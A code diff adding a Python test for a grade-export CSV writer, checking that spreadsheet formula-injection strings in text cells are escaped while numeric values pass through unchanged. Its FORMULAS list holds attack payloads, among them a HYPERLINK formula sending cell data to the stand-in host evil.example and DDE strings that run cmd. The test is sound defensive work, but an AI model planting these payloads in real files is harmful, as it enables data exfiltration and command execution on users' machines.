@@ -84,3 +84,30 @@ def test_write_csv_quotes_and_replaces(tmp_path: Path):
     assert read[0] == csv_header(PARTS)
     assert read[1][1] == "Lovelace, Ada" and read[1][-1] == "error;invalid;timeout"
     assert sorted(p.name for p in path.parent.iterdir()) == ["grades.csv"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"grades")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+
+
+def test_a_formula_in_any_text_cell_stays_text_and_numbers_stay_numbers(tmp_path: Path):
+    path = tmp_path / "grades.csv"
+    rows = [csv_row(_report(), meta={"id": f, "name": f, "email": f, "sid": f}, parts=PARTS) for f in FORMULAS]
+    rows.append(csv_row(_report(), meta={"id": "7", "name": "Ada-Lovelace", "email": "a@b.c", "sid": "-1001"},
+                        parts=PARTS))
+    rows.append(["1", "x", "y", "+42", "-2.5", "1e3", "-0.5", "", "-", "=", "@"])
+    write_csv(path, csv_header(PARTS), rows)
+    with path.open(newline="") as handle:
+        read = list(csv.reader(handle))
+    for formula, row in zip(FORMULAS, read[1:], strict=False):
+        assert row[:4] == ["'" + formula.replace("\r", "\n")] * 4  # a lone CR would end the row
+        assert row[4:6] == ["2.5", "8"]
+    assert read[-2][:6] == ["7", "Ada-Lovelace", "a@b.c", "-1001", "2.5", "8"]
+    assert read[-1] == ["1", "x", "y", "+42", "-2.5", "1e3", "-0.5", "", "'-", "'=", "'@"]
